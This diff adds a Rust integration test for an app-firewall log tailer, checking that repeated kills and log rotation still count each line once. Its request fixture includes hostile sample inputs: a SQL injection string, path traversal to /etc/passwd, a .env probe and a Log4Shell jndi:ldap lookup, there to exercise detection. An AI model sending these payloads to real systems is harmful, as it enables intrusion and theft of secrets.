@@ -1,0 +1,348 @@
+//! Promise 1 against the real binary: `afw tail` is killed at random times while its log grows and is rotated, and
+//! still counts every line once and comes to the same findings as one uninterrupted replay.
+//!
+//! `AFW_KILLS` sets how often it is killed (default 6), `AFW_SEED` repeats a run.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::print_stderr,
+    reason = "a test fails by panicking"
+)]
+
+mod support;
+
+use std::collections::BTreeMap;
+use std::fs::{self, File, OpenOptions};
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::time::Duration;
+
+use serde_json::{Value, json};
+use support::ingest::Ingest;
+use support::{Running, afw, json_lines, run, stdout, text, wait_until};
+
+/// What clients ask for: ordinary and hostile, so that signatures, windows and indicators all have work.
+const REQUESTS: [(&str, u16, &str); 10] = [
+    (
+        "/",
+        200,
+        "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
+    ),
+    (
+        "/shop/item?id=7",
+        200,
+        "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
+    ),
+    (
+        "/favicon.ico",
+        404,
+        "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
+    ),
+    ("/.env", 404, "curl/8.11.0"),
+    ("/wp-login.php", 200, "python-requests/2.32"),
+    ("/a?q=1%27%20OR%201=1--", 200, "sqlmap/1.8"),
+    ("/%2e%2e/%2e%2e/etc/passwd", 400, "Mozilla/5.0 zgrab/0.x"),
+    ("/missing/one", 404, "Mozilla/5.0 (compatible; Nikto/2.5)"),
+    ("/?x=${jndi:ldap://192.0.2.1/a}", 200, "Go-http-client/1.1"),
+    ("/phpmyadmin/", 404, "Wget/1.21"),
+];
+
+/// SplitMix64: seeded, and the same everywhere.
+#[derive(Clone)]
+struct Random(u64);
+
+impl Random {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        mixed ^ (mixed >> 31)
+    }
+
+    fn below(&mut self, end: u64) -> u64 {
+        self.next() % end
+    }
+}
+
+/// Writes the log as a server does and rotates it as logrotate does, in every way there is.
+struct Writer {
+    log: PathBuf,
+    /// Everything ever written, in order.
+    whole: File,
+    file: File,
+    random: Random,
+    written: Arc<AtomicU64>,
+    rotations: BTreeMap<&'static str, u64>,
+}
+
+impl Writer {
+    fn new(dir: &Path, seed: u64) -> Self {
+        let log = dir.join("access.log");
+        Self {
+            file: opened(&log),
+            whole: opened(&dir.join("whole")),
+            log,
+            random: Random(seed),
+            written: Arc::default(),
+            rotations: BTreeMap::new(),
+        }
+    }
+
+    /// Some lines; now and then the last one comes in two parts.
+    fn append(&mut self) {
+        for _ in 0..=self.random.below(12) {
+            let number = self.written.load(Ordering::SeqCst);
+            let (target, status, agent) = REQUESTS[self.random.below(10) as usize];
+            let (client, at) = (self.random.below(24), number / 4);
+            let (minute, second) = (at / 60 % 60, at % 60);
+            let line = format!(
+                "45.83.7.{client} - - [10/Oct/2026:{:02}:{minute:02}:{second:02} +0000] \"GET {target} HTTP/1.1\" {status} {number} \"-\" \"{agent}\"\n",
+                at / 3600
+            );
+            let cut = self.random.below(4 * line.len() as u64).min(line.len() as u64) as usize;
+            self.file.write_all(&line.as_bytes()[..cut]).unwrap();
+            self.file.write_all(&line.as_bytes()[cut..]).unwrap();
+            self.whole.write_all(line.as_bytes()).unwrap();
+            self.written.store(number + 1, Ordering::SeqCst);
+        }
+    }
+
+    /// `access.log.N` for any N; the number of the oldest.
+    fn rotated(&self, number: u64) -> PathBuf {
+        PathBuf::from(format!("{}.{number}", self.log.display()))
+    }
+
+    /// Makes room for a new `access.log.1`.
+    fn shift(&self) {
+        let mut oldest = 0;
+        while [".gz", ""].iter().any(|end| self.named(oldest + 1, end).exists()) {
+            oldest += 1;
+        }
+        for number in (1..=oldest).rev() {
+            for end in [".gz", ""] {
+                let from = self.named(number, end);
+                if from.exists() {
+                    fs::rename(from, self.named(number + 1, end)).unwrap();
+                }
+            }
+        }
+    }
+
+    fn named(&self, number: u64, end: &str) -> PathBuf {
+        PathBuf::from(format!("{}{end}", self.rotated(number).display()))
+    }
+
+    fn rotate(&mut self) {
+        let how = ["rename", "copytruncate", "gzip"][self.random.below(3) as usize];
+        match how {
+            "rename" => {
+                self.shift();
+                fs::rename(&self.log, self.rotated(1)).unwrap();
+                self.file = opened(&self.log);
+            }
+            "copytruncate" => {
+                self.shift();
+                fs::copy(&self.log, self.rotated(1)).unwrap();
+                self.file.set_len(0).unwrap();
+            }
+            _ => self.compress(),
+        }
+        *self.rotations.entry(how).or_default() += 1;
+    }
+
+    /// Compresses the newest rotated file that is not yet compressed, as `delaycompress` does.
+    fn compress(&self) {
+        let Some(number) = (1..=3).find(|number| self.rotated(*number).exists()) else {
+            return;
+        };
+        let plain = fs::read(self.rotated(number)).unwrap();
+        let new = self.log.with_extension("tmp");
+        let mut gz = flate2::write::GzEncoder::new(File::create(&new).unwrap(), flate2::Compression::fast());
+        gz.write_all(&plain).unwrap();
+        gz.finish().unwrap();
+        fs::rename(new, self.named(number, ".gz")).unwrap();
+        fs::remove_file(self.rotated(number)).unwrap();
+    }
+
+    /// Writes until told to stop.
+    fn run(mut self, stop: &AtomicBool) -> BTreeMap<&'static str, u64> {
+        while !stop.load(Ordering::SeqCst) {
+            self.append();
+            if self.random.below(12) == 0 {
+                self.rotate();
+            }
+            std::thread::park_timeout(Duration::from_millis(self.random.below(12)));
+        }
+        self.rotations
+    }
+}
+
+fn opened(path: &Path) -> File {
+    OpenOptions::new().create(true).append(true).open(path).unwrap()
+}
+
+fn start_tail(dir: &Path, receiver: &Ingest) -> Running {
+    let child = shipping(dir, receiver)
+        .args(["tail", "--from", "start", "--print", "none"])
+        .arg(dir.join("access.log"))
+        .stdout(Stdio::null())
+        .stderr(Stdio::from(opened(&dir.join("messages"))))
+        .spawn()
+        .unwrap();
+    Running(child)
+}
+
+fn shipping(dir: &Path, receiver: &Ingest) -> std::process::Command {
+    let mut command = afw(&dir.join("state"));
+    command
+        .env("APPFIREWALL_API_KEY", "afw_test_key")
+        .env("APPFIREWALL_ENDPOINT", receiver.endpoint());
+    command
+}
+
+/// Lines that the store has counted, those of files that are gone included.
+fn counted(dir: &Path) -> u64 {
+    let status: Value =
+        serde_json::from_str(&stdout(afw(&dir.join("state")).args(["status", "--json"]))).unwrap();
+    let files = status["files"].as_array().unwrap();
+    let lines: u64 = files.iter().map(|file| file["lines"].as_u64().unwrap()).sum();
+    lines + status["counters"]["lines.forgotten"].as_u64().unwrap_or(0)
+}
+
+/// How often each event was sent.
+fn events(receiver: &Ingest) -> BTreeMap<String, u64> {
+    let mut counts = BTreeMap::new();
+    for event in receiver.events() {
+        *counts.entry(event.to_string()).or_default() += 1;
+    }
+    counts
+}
+
+/// What is known of each value; how often it was emitted and which evidence was kept may differ between runs.
+fn indicators(out: &str) -> BTreeMap<String, Value> {
+    let by_value = |indicator: Value| {
+        let known = [
+            "class",
+            "confidence",
+            "sightings",
+            "rules",
+            "first_seen",
+            "last_seen",
+        ]
+        .map(|key| (key, indicator[key].clone()));
+        let known: BTreeMap<&str, Value> = known.into_iter().collect();
+        (indicator["value"].as_str().unwrap().to_owned(), json!(known))
+    };
+    json_lines(out).into_iter().map(by_value).collect()
+}
+
+fn number(variable: &str, usual: u64) -> u64 {
+    std::env::var(variable).map_or(usual, |text| text.parse().unwrap())
+}
+
+fn assert_same<T: std::fmt::Debug + PartialEq>(
+    what: &str,
+    found: &BTreeMap<String, T>,
+    expected: &BTreeMap<String, T>,
+) {
+    let keys = found.keys().chain(expected.keys());
+    let differing: Vec<_> = keys
+        .filter(|key| found.get(*key) != expected.get(*key))
+        .map(|key| (key, found.get(key), expected.get(key)))
+        .take(5)
+        .collect();
+    assert!(
+        differing.is_empty(),
+        "{what}: tail has {}, replay {}; differing: {differing:#?}",
+        found.len(),
+        expected.len()
+    );
+}
+
+#[test]
+fn killed_and_rotated_tail_finds_what_one_replay_finds() {
+    let clock = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
+    let seed = number("AFW_SEED", clock.unwrap().as_nanos() as u64);
+    let kills = number("AFW_KILLS", 6);
+    eprintln!("AFW_SEED={seed} AFW_KILLS={kills}");
+    let dir = tempfile::tempdir().unwrap();
+    let place = dir.path();
+    let receiver = Ingest::start();
+    let mut random = Random(!seed);
+
+    let mut writer = Writer::new(place, seed);
+    let written = Arc::clone(&writer.written);
+    writer.append();
+    let mut tail = start_tail(place, &receiver);
+    wait_until("the first commit", || {
+        place.join("state/afw.db").exists() && counted(place) > 0
+    });
+    let stop = Arc::new(AtomicBool::new(false));
+    let writing = {
+        let stop = Arc::clone(&stop);
+        std::thread::spawn(move || writer.run(&stop))
+    };
+    for _ in 0..kills {
+        std::thread::park_timeout(Duration::from_millis(random.below(900)));
+        tail.kill();
+        std::thread::park_timeout(Duration::from_millis(random.below(200)));
+        tail = start_tail(place, &receiver);
+    }
+    receiver.answer_next(&[503]);
+    stop.store(true, Ordering::SeqCst);
+    let rotations = writing.join().unwrap();
+    let total = written.load(Ordering::SeqCst);
+    eprintln!("{total} lines, {rotations:?}");
+    let mut last = 0;
+    let settled = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
+        wait_until("all lines", || {
+            last = counted(place);
+            last >= total
+        });
+    }));
+    let said = fs::read_to_string(place.join("messages")).unwrap();
+    if let Err(why) = settled {
+        eprintln!("{last} of {total} lines counted; afw said:\n{said}");
+        std::panic::resume_unwind(why);
+    }
+    assert_eq!(tail.terminate(), Some(0));
+    assert_eq!(counted(place), total, "each line once; afw said:\n{said}");
+    compare(place, &receiver);
+}
+
+/// The store and the receiver against one replay of all that was written.
+fn compare(place: &Path, receiver: &Ingest) {
+    let whole = place.join("whole");
+    let resumed = stdout(
+        afw(&place.join("state"))
+            .args(["replay", "--resume", "--print", "indicators", "--sink", "none"])
+            .arg(place.join("access.log")),
+    );
+    let expected = stdout(
+        afw(&place.join("fresh"))
+            .args(["replay", "--print", "indicators"])
+            .arg(&whole),
+    );
+    let (found, expected) = (indicators(&resumed), indicators(&expected));
+    assert!(expected.len() > 10, "the log must be worth the test");
+    assert_same("indicators", &found, &expected);
+
+    let oracle = Ingest::start();
+    let mut replay = afw(&place.join("oracle"));
+    replay
+        .env("APPFIREWALL_API_KEY", "afw_test_key")
+        .env("APPFIREWALL_ENDPOINT", oracle.endpoint())
+        .args(["replay", "--print", "none"])
+        .arg(&whole);
+    let output = run(&mut replay);
+    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+    assert_same("events", &events(receiver), &events(&oracle));
+    for ingest in [receiver, &oracle] {
+        let faults = ingest.look(|seen| seen.faults.clone());
+        assert!(faults.is_empty(), "{faults:#?}");
+    }
+}
